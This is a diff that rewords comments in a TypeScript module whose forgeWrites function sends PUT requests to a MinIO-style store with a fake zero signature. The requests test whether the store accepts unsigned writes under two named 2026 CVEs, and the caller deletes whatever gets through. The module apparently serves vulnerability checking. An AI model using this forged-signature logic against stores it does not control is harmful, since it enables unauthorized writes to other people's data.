@@ -2,9 +2,8 @@ import { randomUUID } from 'node:crypto';
 import { crc32 } from 'node:zlib';
 
 export interface ForgedWrite {
-  /** Says how it was forged. */
   name: string;
-  /** It takes the name of an access key. */
+  /** Requires an access key's name. */
   needsKey: boolean;
   accepted: boolean;
 }
@@ -29,10 +28,9 @@ const NO_SIGNATURE = '0'.repeat(64);
 const SIGNED = `SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=${NO_SIGNATURE}`;
 
 /**
- * Tries to write as those do who know an access key and not its secret. MinIO before April 2026 accepts some of them:
- * CVE-2026-40344 (archives) and CVE-2026-41145 (streams whose key is in the address). The caller removes what is
- * accepted.
- * @param prefix of all keys that it writes to
+ * Attempts writes with an access key but without its secret. MinIO before April 2026 accepts some: CVE-2026-40344
+ * (archives) and CVE-2026-41145 (streams with a presigned URL). The caller removes them.
+ * @param prefix of all written keys
  */
 export async function forgeWrites(
   endpoint: string,
@@ -71,7 +69,7 @@ export async function forgeWrites(
     forged.map(async ([name, headers, query, body], index): Promise<ForgedWrite> => {
       const address = new URL(`/${bucket}/${prefix}${index}?${query}`, endpoint);
       const signal = AbortSignal.timeout(TIMEOUT_MS);
-      // A store may end the connection instead of an answer.
+      // A store may close the connection instead.
       const accepted = await fetch(address, { method: 'PUT', headers, body, redirect: 'manual', signal }).then(
         ({ ok }) => ok,
         () => false,
@@ -81,7 +79,6 @@ export async function forgeWrites(
   );
 }
 
-/** An archive of one file. */
 function tarOf(name: string): Buffer<ArrayBuffer> {
   const header = Buffer.alloc(512);
   const fields: [text: string, offset: number][] = [
